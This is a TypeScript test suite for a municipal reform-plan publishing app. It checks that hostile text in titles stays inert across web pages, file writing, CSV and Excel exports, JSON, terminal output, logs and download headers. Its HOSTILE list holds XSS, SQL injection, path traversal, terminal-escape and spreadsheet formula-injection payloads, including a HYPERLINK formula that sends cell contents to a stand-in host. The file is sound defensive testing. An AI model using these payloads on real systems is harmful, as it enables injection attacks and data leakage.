import { mkdtempSync, readdirSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { strFromU8, unzipSync } from 'fflate'
import Papa from 'papaparse'
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest'
import { say } from '../src/cli/terminal.ts'
import { csvFiles } from '../src/publish/csv.ts'
import { downloadsOf } from '../src/publish/downloads.ts'
import { printEdition, printRecord } from '../src/publish/json.ts'
import { sitePages, writeSite } from '../src/publish/site/write-site.ts'
import type { Edition } from '../src/reform/edition.ts'
import type { DocumentRecord, ReformRecord } from '../src/reform/record.ts'
import { readSummary } from '../src/report/read-summary.ts'
import type { Store } from '../src/store/database.ts'
import { planFamilies } from '../src/store/plan-family.ts'
import { loadRecord } from '../src/store/record.ts'
import type { MunicipalityCode } from '../src/vocabulary/municipality-code.ts'
import { oneLine } from '../src/vocabulary/one-line.ts'
import { appOf } from '../src/web/server.tsx'
import { staffApp } from '../src/web/staff/app.tsx'
import { acceptImport, proposeImport } from '../src/workflows/import-document.ts'
import { publishEdition } from '../src/workflows/publish-edition.ts'
import { type ReadReform, readReform } from '../src/workflows/read-reform.ts'
import { everything } from './everything.ts'
import { cookieOf, openOffice, staffOptions } from './staff-town.ts'
import { openTestStore } from './test-store.ts'

const AOBA = '990019' as MunicipalityCode
/** What somebody could write into a title to make a page, a file, a database, a spreadsheet or a terminal obey. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '</title></h1><img src=x onerror=alert(1)>',
  "\"><svg onload=alert(1)> ' onmouseover='alert(1)",
  'javascript:alert(1)',
  '../../../../etc/passwd',
  "'; DROP TABLE plan; --",
  '$'.concat('{process.exit()}{{constructor}}<%= 1 %>'),
  '=HYPERLINK("http://x.example/?"&A1,"押す")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '+1+1","余分な列',
  '-2+3\r\n余分な行,1,2',
  '\x1b[2J\x1b]0;乗っ取り\x07\u009b31m',
  '行の終わり\n[FAKE] GET /ok\u202e逆向き',
  '&lt;b&gt;&#0;]]><!--',
]
/** What a spreadsheet runs; «-5,000» and a dash it does not. */
const FORMULA = /^(?![-+]?[\d,]+(?:\.\d+)?[%％]?$|[-－]+$)[=+\-@＝＋－＠\t\r\n]/
const FREE = new Set(
  'title text heading description goal name office where url progress issues revision label group unit scope reason section pillar theme definition term message criterion comment department what estimate number level scale breakdown'.split(
    ' ',
  ),
)
const ENUMERATED = new Set(['5レス'])

/** Every free text of the record, and its own words before it where it must stay itself. */
function withTexts<T>(value: T, say: (before: string) => string, key = ''): T {
  if (typeof value === 'string') return (FREE.has(key) && !ENUMERATED.has(value) ? say(value) : value) as T
  if (Array.isArray(value))
    return value.map((item) => withTexts(item, say, ['sections', 'levels', 'aggregates', 'other'].includes(key) ? 'name' : key)) as T
  if (value === null || typeof value !== 'object') return value
  return Object.fromEntries(Object.entries(value).map(([inside, item]) => [inside, withTexts(item, say, inside)])) as T
}

let turn = 0
const hostile = (): ReformRecord => withTexts(everything(), (text) => `${HOSTILE[turn++ % HOSTILE.length]}${text}`)
const harmless = (letter = 'あ'): ReformRecord => withTexts(everything(), (text) => `${letter}${text}`)
const HOSTILE_NAME = '../<img src=x onerror=alert(1)>"\r\nX-Forged: 1\x1b[2J.json'

function jsonOf(record: ReformRecord, municipality: string): string {
  const document: DocumentRecord = {
    format: 'kaikaku/1',
    document: { name: 'a', sha256: 'b', kind: 'txt', layouts: [] },
    ...record,
    municipality: { code: AOBA, name: municipality },
    checks: [{ kind: 'sum', verdict: 'fails', stated: '1', computed: '2', message: `${HOSTILE[0]}${HOSTILE[11]}`, at: [] }],
    unread: [],
    accounting: { characters: 0, fields: 0, prose: 0, boilerplate: 0, unread: 0 },
    guesses: [],
    at: {},
  }
  return printRecord(document, { places: false })
}

type Published = { read: ReadReform; edition: Edition; record: ReformRecord }

async function published(store: Store, json: string, name: string): Promise<Published> {
  const read = await readReform({ name, bytes: new TextEncoder().encode(json) })
  if (!read.ok) throw new Error(JSON.stringify(read.problem))
  const act = { municipality: AOBA, by: HOSTILE[5] as string, at: new Date(0), why: HOSTILE[11] as string }
  const proposed = await proposeImport(store, [read.value], { municipality: null, plan: null })
  if (!proposed.ok) throw new Error(proposed.problem.kind)
  await acceptImport(store, act, proposed.value)
  const [family] = await store.reading(AOBA, planFamilies)
  if (!family) throw new Error('計画がない')
  const edition = await publishEdition(store, family.id, act)
  if (!edition.ok) throw new Error(edition.problem.kind)
  const record = await store.reading(AOBA, (db) => loadRecord(db, family.id))
  return { read: read.value, edition: edition.value, record: record as ReformRecord }
}

const TAG = /<!DOCTYPE html>|<\/[a-zA-Z][a-zA-Z0-9]*>|<([a-zA-Z][a-zA-Z0-9]*)((?:\s+[a-zA-Z][a-zA-Z0-9:-]*(?:="[^"<]*")?)*)\s*\/?>/g
/** The kinds of elements and attributes of a page; `rest`: what begins an element and is none of ours. */
function marks(html: string): { kinds: string[]; links: string[]; rest: string[] } {
  const found = [...html.matchAll(TAG)].filter(([, name]) => name !== undefined)
  const attributes = found.flatMap(([, name, said = '']) =>
    [...said.matchAll(/([a-zA-Z][\w:-]*)(?:="([^"]*)")?/g)].map((a) => [name, a[1], a[2]] as const),
  )
  return {
    kinds: [...new Set([...found.map(([, name]) => `<${name}>`), ...attributes.map(([name, attribute]) => `<${name} ${attribute}>`)])],
    links: attributes
      .filter(([, attribute]) => /^(?:href|src|action|formaction|data)$/i.test(attribute as string))
      .map(([, , value = '']) => value),
    rest: html.replace(TAG, '').match(/<.{0,40}/g) ?? [],
  }
}

describe('悪意のある文字は、どこに出ても文字のまま', () => {
  let store: Store
  let other: Store
  let bad: Published
  let good: Published
  beforeAll(async () => {
    store = await openTestStore()
    other = await openTestStore()
    bad = await published(store, jsonOf(hostile(), HOSTILE[1] as string), HOSTILE_NAME)
    good = await published(other, jsonOf(harmless(), 'あおば市'), '記録.json')
  })
  afterAll(async () => {
    await store.close()
    await other.close()
  })
  afterEach(() => vi.restoreAllMocks())

  it('頁に新しい要素も属性も現れず、リンクは外へ出ない', async () => {
    const known = new Set([...sitePages([good.edition], '', await downloadsOf(good.edition))].flatMap(({ html }) => marks(html).kinds))
    const pages = [...sitePages([bad.edition], '', await downloadsOf(bad.edition))]
    expect(pages.length).toBeGreaterThan(20)
    expect(pages.some(({ html }) => html.includes('&lt;script&gt;alert(1)'))).toBe(true)
    for (const { path, html } of pages) {
      const { kinds, links, rest } = marks(html)
      expect({ path, rest, kinds: kinds.filter((kind) => !known.has(kind)) }).toEqual({ path, rest: [], kinds: [] })
      expect(links.filter((link) => !/^(?:\.\.\/)*[A-Za-z0-9_./-]*(?:#[A-Za-z0-9_-]+)?$/.test(link))).toEqual([])
    }
  })

  it('書き出したファイルは指定したフォルダーの中だけにある', async () => {
    const above = mkdtempSync(join(tmpdir(), 'kaikaku-hostile-'))
    try {
      await writeSite([bad.edition], join(above, 'a', 'site'), 'body{}', await downloadsOf(bad.edition))
      const written = readdirSync(above, { recursive: true, withFileTypes: true }).filter((entry) => entry.isFile())
      const outside = written.filter(
        ({ parentPath, name }) =>
          !/^\/a\/site(?:\/[A-Za-z0-9_-]+)*\/[A-Za-z0-9_-]+(?:\.[a-z0-9]+)+$/.test(`${parentPath}/${name}`.slice(above.length)),
      )
      expect([written.length > 20, outside]).toEqual([true, []])
    } finally {
      rmSync(above, { recursive: true, force: true })
    }
  })

  it('CSV では数式にならず、行も列も増えない', () => {
    const rowsOf = (text: string): string[][] =>
      Papa.parse<string[]>(text.replace(/^\ufeff/, ''), { newline: '\r\n', skipEmptyLines: true }).data
    // every hostile estimate has another name, so that there is more to compare
    const sizes = (edition: Edition) =>
      csvFiles(edition.record)
        .filter(({ name }) => name !== 'effect_comparisons')
        .map(({ name, text }) => [name, rowsOf(text).length])
    expect(sizes(bad.edition)).toEqual(sizes(good.edition))
    for (const { name, text } of csvFiles(bad.edition.record)) {
      const [header = [], ...rows] = rowsOf(text)
      expect([name, rows.filter((row) => row.length !== header.length)]).toEqual([name, []])
      expect([name, rows.flat().filter((cell) => FORMULA.test(cell))]).toEqual([name, []])
    }
  })

  it('Excel では数式もリンクもなく、シート名は Excel が開ける', async () => {
    const book = (await downloadsOf(bad.edition)).find(({ file }) => file.endsWith('.xlsx'))
    const parts = Object.entries(unzipSync(book?.bytes as Uint8Array)).map(([name, bytes]) => [name, strFromU8(bytes)] as const)
    expect(
      parts.filter(([name, xml]) => /external|hyperlink|vba/i.test(name) || /<f[ >]|<hyperlink|<!DOCTYPE/.test(xml)).map(([name]) => name),
    ).toEqual([])
    const names = [...(parts.find(([name]) => name === 'xl/workbook.xml')?.[1] ?? '').matchAll(/<sheet [^>]*name="([^"]*)"/g)].map(
      ([, name = '']) => name.replace(/&(?:amp|quot|apos);/g, '_'),
    )
    expect(names.filter((name) => name.length > 31 || /[[\]:*?/\\<>]/.test(name) || name === '')).toEqual([])
    expect(names.length).toBeGreaterThan(3)
  })

  it('JSON とデータベースは、書かれたとおりに返す', async () => {
    const again = JSON.parse(printEdition(bad.edition)) as Edition
    expect(again.record.initiatives.map(({ title }) => title)).toEqual(bad.read.document.initiatives.map(({ title }) => title))
    expect(bad.record.initiatives.map(({ title }) => title)).toEqual(bad.read.document.initiatives.map(({ title }) => title))
    expect(bad.record.plans.map(({ title }) => title).toSorted()).toEqual(bad.read.document.plans.map(({ title }) => title).toSorted())
  })

  it('端末では一行ずつで、制御文字は届かない', () => {
    const written: string[] = []
    vi.spyOn(process.stderr, 'write').mockImplementation((text) => written.push(String(text)) > 0)
    const lines = readSummary(bad.read.document)
    say(...lines, ...HOSTILE, HOSTILE_NAME)
    expect(written.length).toBe(lines.length + HOSTILE.length + 1)
    for (const line of written) expect(line).toMatch(/^[^\0-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]*\n$/)
    expect(oneLine('\x1b[2J一\r\n二')).toBe('␛[2J一 二')
  })

  it('記録の行は偽れない', async () => {
    const logged: string[] = []
    const read = () => Promise.reject(new Error(`読めない\n[FAKE] GET "/" ok${HOSTILE[11]}`))
    vi.spyOn(console, 'error').mockImplementation(() => undefined)
    const { app } = appOf({ read, stylesheet: 'body{}', port: 0, host: '127.0.0.1', log: (line) => logged.push(line) })
    const shown = await app.request('/%0A%5BFAKE%5D%1B%5B2J/')
    expect([shown.status, marks(await shown.text()).rest, logged.length]).toEqual([500, [], 1])
    expect(
      logged[0]?.split('\n').filter((line, index) => (index > 0 && !line.startsWith('    ')) || /[\0-\x1f\x7f-\x9f]/.test(line)),
    ).toEqual([])
  })

  it('持ち帰るファイルの名は見出しを増やさない', async () => {
    const downloads = await downloadsOf(bad.edition)
    expect(downloads.filter(({ file }) => !/^[a-z0-9_-]+\.[a-z]+$/.test(file))).toEqual([])
    const forged = { ...(downloads[0] as (typeof downloads)[number]), file: 'a"\r\nX-Forged: 1.csv' }
    const { app } = appOf({
      read: async () => ({ editions: [bad.edition], downloads: [forged] }),
      stylesheet: 'body{}',
      port: 0,
      host: '127.0.0.1',
    })
    const asked = `/990019/plans/${bad.edition.plan}/downloads/${forged.file}`
    const answer = await app.request(`http://localhost${encodeURI(asked)}`)
    expect(answer.headers.get('x-forged')).toBeNull()
    expect(answer.status).toBe(200)
    expect(answer.headers.get('content-disposition')).toMatch(/^attachment; filename="[A-Za-z0-9._-]+"$/)
  })

  it('取込みの画面でも、文書と名前は文字のまま', async () => {
    const review = async (into: Store, json: string, name: string): Promise<string> => {
      await openOffice(into)
      const app = staffApp(staffOptions(into))
      const headers = { host: 'localhost', origin: 'http://localhost', cookie: await cookieOf(into, 'jimukyoku') }
      const body = new FormData()
      body.append('files', new File([json], name))
      const sent = await app.request(`http://localhost/${AOBA}/staff/imports/`, { method: 'POST', headers, body })
      const answer = await app.request(`http://localhost${sent.headers.get('location')}`, { headers })
      return answer.text()
    }
    const known = marks(await review(other, jsonOf(harmless('い'), 'あおば市'), '記録.json')).kinds
    const shown = await review(store, jsonOf(hostile(), HOSTILE[1] as string), HOSTILE_NAME)
    const { kinds, rest } = marks(shown)
    expect(shown).toContain('&lt;script&gt;alert(1)')
    expect({ rest, kinds: kinds.filter((kind) => !known.includes(kind)) }).toEqual({ rest: [], kinds: [] })
  })
})
